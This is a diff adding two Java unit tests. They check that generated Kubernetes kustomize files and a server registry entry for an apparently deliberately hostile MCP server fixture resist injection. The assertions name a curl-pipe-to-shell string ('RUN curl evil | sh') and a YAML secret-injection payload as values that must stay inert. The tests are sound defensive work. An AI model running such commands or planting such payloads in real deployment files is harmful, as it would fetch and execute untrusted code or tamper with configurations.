@@ -113,6 +113,36 @@ class SpecTextInFilesTest {
   }
 
   @Test
+  void theKustomizeFilesAreOneDocumentEachAndKeepTheUrlAsOneArgument() throws Exception {
+    Path kustomize = deploy.resolve("kubernetes/kustomize");
+    List<Path> files;
+    try (java.util.stream.Stream<Path> walk = Files.walk(kustomize)) {
+      files = walk.filter(Files::isRegularFile).filter(file -> file.toString().endsWith(".yaml")).toList();
+    }
+    assertThat(files).hasSize(9);
+    for (Path file : files) {
+      String text = Files.readString(file);
+      String name = kustomize.relativize(file).toString();
+      assertThat(text).as(name).doesNotContain("\u0085", "\u2028", "\u2029", "\u202e", "\u001b", "\ufeff");
+      List<JsonNode> documents = YAML.readerFor(JsonNode.class).<JsonNode>readValues(text).readAll();
+      assertThat(documents).as(name).hasSize(1);
+      assertThat(fieldNames(documents.get(0))).as(name).doesNotContain("injected", "RUN curl evil | sh");
+    }
+    JsonNode patch = YAML.readTree(Files.readString(kustomize.resolve("overlays/inbound-auth/inbound-auth.yaml")));
+    List<String> args = new ArrayList<>();
+    patch.at("/spec/template/spec/containers/0/args").forEach(arg -> args.add(arg.asText()));
+    assertThat(args).containsExactly("--base-url", SERVER_URL, "--auth-tokens-env", "MCP_TOKENS");
+  }
+
+  @Test
+  void theRegistryEntryHoldsTheTitleAsOneJsonString() throws Exception {
+    JsonNode entry = JSON.readTree(Files.readString(deploy.resolve("server.json")));
+    assertThat(fieldNames(entry)).doesNotContain("injected");
+    assertThat(entry.get("title").asText()).doesNotContain("\n", "\u2028", "\u202e", "\u001b")
+        .contains("kind: Secret injected: true");
+  }
+
+  @Test
   void theLauncherHoldsSpecTextOnlyInCommentLines() throws Exception {
     for (String line : Files.readAllLines(deploy.resolve("bin/hostile-mcp-server"))) {
       if (line.contains("evil") || line.contains("pwned")) {
